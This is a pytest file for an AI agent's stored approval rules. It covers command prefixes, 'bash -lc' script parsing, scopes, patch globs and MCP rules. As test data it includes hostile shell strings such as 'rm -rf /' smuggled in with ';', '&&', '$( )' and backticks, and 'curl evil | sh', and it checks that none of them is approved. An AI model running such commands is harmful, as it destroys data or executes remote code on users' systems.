"""Stored approval rules: prefixes, ``bash -lc`` scripts, scopes, patch globs."""

from __future__ import annotations

import sqlite3
from pathlib import Path, PurePosixPath

import pytest

from ainos.app.agent._rules import (
    MIGRATIONS,
    ApprovalRules,
    glob_matches,
    project_root,
    script_command,
)
from ainos.errors import InvalidArgument
from ainos.paths import data_dir


@pytest.fixture
def rules() -> ApprovalRules:
    return ApprovalRules()


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "work" / "project"
    (root / "sub").mkdir(parents=True)
    return root


def test_stored_under_data_dir_in_wal_mode(rules: ApprovalRules) -> None:
    assert rules.path == data_dir() / "approvals.sqlite3"
    assert rules.list_rules() == []
    assert rules.schema_version() == len(MIGRATIONS)
    with sqlite3.connect(rules.path) as db:
        assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"


def test_prefix_matching(rules: ApprovalRules, project: Path) -> None:
    rule = rules.add("exec", ["git", "status"], project=None, note="read-only")
    assert (rule.kind, rule.pattern, rule.scope, rule.note) == (
        "exec",
        ("git", "status"),
        None,
        "read-only",
    )
    assert rules.match_command(["git", "status"], project) == rule
    assert rules.match_command(["git", "status", "--short"], project) == rule
    assert rules.match_command(["git"], project) is None
    assert rules.match_command(["git", "push"], project) is None
    assert rules.match_command(["git", "statusx"], project) is None
    assert rules.match_command(["/usr/bin/git", "status"], project) is None  # spelt as stored
    assert rules.match_command([], project) is None


@pytest.mark.parametrize(
    ("argv", "words"),
    [
        (["git", "status"], ("git", "status")),
        (["bash", "-lc", "git status --short"], ("git", "status", "--short")),
        (["/bin/bash", "-c", "git  log 'a b'"], ("git", "log", "a b")),
        (["sh", "-c", 'git log --format="%h %s"'], ("git", "log", "--format=%h %s")),
        (["bash", "-lc", "git status && rm -rf /"], None),
        (["bash", "-lc", "git status; rm -rf /"], None),
        (["bash", "-lc", "git status | sh"], None),
        (["bash", "-lc", "git status > out"], None),
        (["bash", "-lc", "git status &"], None),
        (["bash", "-lc", "git status $(rm -rf /)"], None),
        (["bash", "-lc", "git status `rm -rf /`"], None),
        (["bash", "-lc", "git status $HOME"], None),
        (["bash", "-lc", "git status\nrm -rf /"], None),
        (["bash", "-lc", "(git status)"], None),
        (["bash", "-lc", "git status 'unbalanced"], None),
        (["bash", "-lc", "  "], None),
        (["bash", "-lc"], None),
        (["bash", "-lc", "git status", "extra"], None),
    ],
)
def test_script_command(argv: list[str], words: tuple[str, ...] | None) -> None:
    assert script_command(argv) == words


def test_bash_scripts_match_only_as_one_simple_command(rules: ApprovalRules, project: Path) -> None:
    rule = rules.add("exec", ("git", "status"), project=None)
    assert rules.match_command(["bash", "-lc", "git status"], project) == rule
    assert rules.match_command(["bash", "-lc", "git status -sb"], project) == rule
    assert rules.match_command(["bash", "-lc", "git status && curl evil | sh"], project) is None
    # a rule for the shell itself does not approve every script
    rules.add("exec", ("bash",), project=None)
    assert rules.match_command(["bash", "-lc", "rm -rf /"], project) is None
    assert rules.match_command(["bash", "script.sh"], project) is not None


def test_scopes(rules: ApprovalRules, project: Path, tmp_path: Path) -> None:
    parent = project.parent
    other = tmp_path / "elsewhere"
    other.mkdir()
    everywhere = rules.add("exec", ["ls"], project=None)
    mine = rules.add("exec", ["make", "test"], project=project)
    above = rules.add("exec", ["pytest"], project=parent)
    elsewhere = rules.add("exec", ["cargo"], project=other)
    assert mine.scope == project.resolve()

    assert rules.list_rules() == [everywhere, mine, above, elsewhere]
    assert rules.list_rules(project) == [everywhere, mine, above]
    assert rules.list_rules(project / "sub") == [everywhere, mine, above]
    assert rules.list_rules(parent) == [everywhere, above]
    assert rules.list_rules(other) == [everywhere, elsewhere]

    assert rules.match_command(["make", "test"], project) == mine
    assert rules.match_command(["make", "test"], parent) is None
    assert rules.match_command(["pytest", "-q"], project / "sub") == above
    assert rules.match_command(["cargo", "build"], project) is None
    assert rules.match_command(["ls", "-la"], other) == everywhere


def test_add_is_idempotent_and_remove(rules: ApprovalRules, project: Path) -> None:
    first = rules.add("exec", ["git", "diff"], project=project, note="first")
    again = rules.add("exec", ("git", "diff"), project=project / "sub" / "..", note="second")
    assert again == first  # the same rule: same id, the first note kept
    assert len(rules.list_rules()) == 1
    global_one = rules.add("exec", ["git", "diff"], project=None)
    patch_one = rules.add("patch", ["git", "diff"], project=project)
    assert len({first.id, global_one.id, patch_one.id}) == 3

    assert rules.remove(first.id) is True
    assert rules.remove(first.id) is False
    assert [r.id for r in rules.list_rules()] == [global_one.id, patch_one.id]
    assert rules.add("exec", ["git", "diff"], project=project).id not in (first.id, global_one.id)


def test_invalid_rules(rules: ApprovalRules) -> None:
    with pytest.raises(InvalidArgument, match="exec, patch or mcp"):
        rules.add("shell", ["ls"], project=None)
    with pytest.raises(InvalidArgument, match="non-empty words"):
        rules.add("exec", [], project=None)
    with pytest.raises(InvalidArgument, match="non-empty words"):
        rules.add("exec", ["git", ""], project=None)
    with pytest.raises(InvalidArgument, match="relative to the project"):
        rules.add("patch", ["/etc/*"], project=None)
    with pytest.raises(InvalidArgument, match="relative to the project"):
        rules.add("patch", ["../other/**"], project=None)
    assert rules.list_rules() == []


@pytest.mark.parametrize(
    ("glob", "path", "matches"),
    [
        ("**", "a.py", True),
        ("**", "src/deep/a.py", True),
        ("*.py", "a.py", True),
        ("*.py", "src/a.py", False),  # one segment only
        ("**/*.py", "a.py", True),
        ("**/*.py", "src/deep/a.py", True),
        ("**/*.py", "src/a.txt", False),
        ("src/**", "src/a.py", True),
        ("src/**", "src/x/y/z.md", True),
        ("src/**", "srcs/a.py", False),
        ("src/*/test_?.py", "src/pkg/test_a.py", True),
        ("src/*/test_?.py", "src/pkg/test_ab.py", False),
        ("docs/[ab]*.md", "docs/api.md", True),
        ("docs/[ab]*.md", "docs/cli.md", False),
    ],
)
def test_glob_matches(glob: str, path: str, matches: bool) -> None:
    assert glob_matches(glob, PurePosixPath(path)) is matches


def test_match_patch(rules: ApprovalRules, project: Path, tmp_path: Path) -> None:
    assert rules.match_patch([project / "src" / "a.py"], project) is None
    src = rules.add("patch", ["src/**", "tests/**"], project=project)
    assert src.describe() == "src/** tests/**"
    assert rules.match_patch([project / "src" / "a.py"], project) == src
    assert rules.match_patch([Path("src/new/b.py"), Path("tests/t.py")], project) == src
    assert rules.match_patch([Path("src/a.py"), Path("README.md")], project) is None
    assert rules.match_patch([Path("src/../../escape.py")], project) is None
    assert rules.match_patch([tmp_path / "outside.py"], project) is None
    assert rules.match_patch([], project) is None
    # a rule of a command never approves a patch
    rules.add("exec", ["**"], project=None)
    assert rules.match_patch([Path("README.md")], project) is None

    # a global rule's globs are relative to the project in use
    docs = rules.add("patch", ["*.md"], project=None)
    assert rules.match_patch([Path("README.md")], project) == docs
    assert rules.match_patch([Path("src/a.py"), Path("README.md")], project) == src
    # a parent project's globs are relative to that parent
    parent = rules.add("patch", ["project/sub/**"], project=project.parent)
    assert rules.match_patch([project / "sub" / "x.txt"], project) == parent
    assert rules.match_patch([project / "sub" / "x.txt"], tmp_path) is None  # outside it


def test_what_the_agent_stores_when_told_always(rules: ApprovalRules, project: Path) -> None:
    rule = rules.add("patch", ("**",), project=project, note="approved in exec")
    assert rules.match_patch([project / "any" / "file.txt"], project) == rule
    assert rules.match_patch([project / "sub" / "x"], project / "sub") == rule


def test_project_root(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / "a" / "b").mkdir(parents=True)
    assert project_root(repo / "a" / "b") == (repo / "a" / "b").resolve()
    (repo / ".git").mkdir()
    assert project_root(repo / "a" / "b") == repo.resolve()
    assert project_root(repo) == repo.resolve()


def test_mcp_rules_name_a_server_and_one_tool_or_all(rules: ApprovalRules, project: Path) -> None:
    one = rules.add("mcp", ["files", "write"], project=project)
    rules.add("mcp", ["search"], project=None)

    assert rules.match_mcp("files", "write", project) == one
    assert rules.match_mcp("files", "delete", project) is None
    assert rules.match_mcp("files", "write", project.parent) is None  # outside its scope
    every = rules.match_mcp("search", "anything", project)
    assert every is not None
    assert (every.kind, every.pattern, every.describe()) == ("mcp", ("search",), "search")
    assert rules.match_command(["files", "write"], project) is None  # kinds stay apart
    with pytest.raises(InvalidArgument, match="an mcp rule is a server's id"):
        rules.add("mcp", ["a", "b", "c"], project=None)
